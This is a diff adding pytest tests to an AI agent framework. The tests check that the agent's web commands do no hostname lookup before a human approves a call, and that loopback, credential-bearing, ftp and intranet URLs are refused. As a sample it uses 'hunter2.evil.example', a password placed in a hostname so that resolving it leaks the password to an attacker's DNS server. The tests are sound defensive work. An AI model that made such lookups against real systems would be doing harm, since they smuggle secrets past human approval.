@@ -1,0 +1,104 @@
+"""Carrying data out before anybody has decided: a name that is looked up tells its own server what it says."""
+
+from collections.abc import Mapping
+from typing import cast
+
+import pytest
+
+from agent_core.commands.registry import Commands
+from agent_core.commands.web import WebCommands
+from agent_core.errors import CommandError
+from agent_core.model.decision import Approve, Reject
+from agent_core.model.result import Failed
+from agent_core.providers.clones import Clones
+from agent_core.providers.door import Door
+from agent_core.providers.search import MetaSearch
+from agent_core.providers.web import DoorWeb
+from agent_core.testing.model import ScriptedModel, reply_text
+from agent_core.testing.stage import Stage
+from tests.attacks.rows import attack
+from tests.standins.site import Names
+from tests.unit.test_every_command import everything
+
+URL = "https://hunter2.evil.example/"
+
+
+def web_of(names: Names) -> DoorWeb:
+    door = Door(resolve=names)
+    return DoorWeb(door=door, clones=Clones(door=door))
+
+
+def stage_of(names: Names, *replies: str) -> Stage:
+    stage = Stage(model=ScriptedModel(*replies))
+    web = WebCommands(MetaSearch(), web_of(names), stage.asker, stage.database)
+    for command in Commands.of(*web.commands).by_name.values():
+        stage.commands.register(command)
+    return stage
+
+
+@pytest.mark.proves("approve:nothing-leaves")
+@attack(
+    "approval",
+    "A password in the name of a host, which looking up carries to that name's server",
+    "looked up after an approval only",
+)
+async def test_no_name_is_looked_up_before_a_decision(answer: str) -> None:
+    names = Names()
+    stage = stage_of(names, reply_text("get_hyperlinks", {"url": URL}), reply_text("get_hyperlinks", {"url": URL}))
+    agent = await stage.create()
+    assert (names.asked, (await stage.turn(agent)).state) == ([], "proposed")
+    await stage.decide(agent, Reject("No."))
+    await stage.settled(agent)
+    assert names.asked == []
+    await stage.decide(agent, Approve())
+    await stage.settled(agent)
+    assert names.asked == ["hunter2.evil.example"], answer
+
+
+@attack(
+    "approval",
+    "Names that there are not, each of which comes back as a reply that people do not see",
+    "each is a card, and its failure a result",
+)
+async def test_a_name_that_there_is_not_is_told_as_a_result(answer: str) -> None:
+    names = Names()
+    stage = stage_of(names, reply_text("get_hyperlinks", {"url": URL}), reply_text("do_nothing"))
+    agent = await stage.create()
+    asked = await stage.turn(agent)
+    assert asked.state == "proposed"
+    await stage.decide(agent, Approve())
+    await stage.settled(agent)
+    result = stage.shown.cards[asked.id].result
+    assert isinstance(result, Failed)
+    assert "There is no host hunter2.evil.example" in result.error, answer
+
+
+async def test_no_preview_of_any_command_looks_a_name_up() -> None:
+    names = Names()
+    commands, context = await everything(web_of(names))
+    previewed: set[str] = set()
+    for command in commands.by_name.values():
+        properties = cast("Mapping[str, Mapping[str, object]]", command.spec.parameters["properties"])
+        kinds = {name: schema.get("type", "string") for name, schema in properties.items()}
+        for text in (URL, "a.txt", "a new one", "a.mp3"):
+            values: dict[object, object] = {"integer": 1, "array": [text], "string": text}
+            try:
+                await command.preview({name: values.get(kind, text) for name, kind in kinds.items()}, context)
+                previewed.add(command.spec.name)
+            except CommandError:
+                continue
+        if "url" in properties:
+            address = {name: URL if name == "url" else "new" for name in properties}
+            assert await command.preview(address, context)
+            previewed.add(command.spec.name)
+    assert names.asked == []
+    assert {each.name for each in commands.specs if "network" in each.risks} <= previewed
+
+
+async def test_what_is_refused_as_it_is_written_is_told_before_anybody_is_asked() -> None:
+    names = Names()
+    for url in ("http://127.0.0.1/", "http://me:secret@example.org/", "ftp://example.org/", "http://intranet/"):
+        stage = stage_of(names, reply_text("get_hyperlinks", {"url": url}), reply_text("get_hyperlinks", {"url": URL}))
+        turn = await stage.turn(await stage.create())
+        assert turn.call.arguments["url"] == URL
+    assert names.asked == []
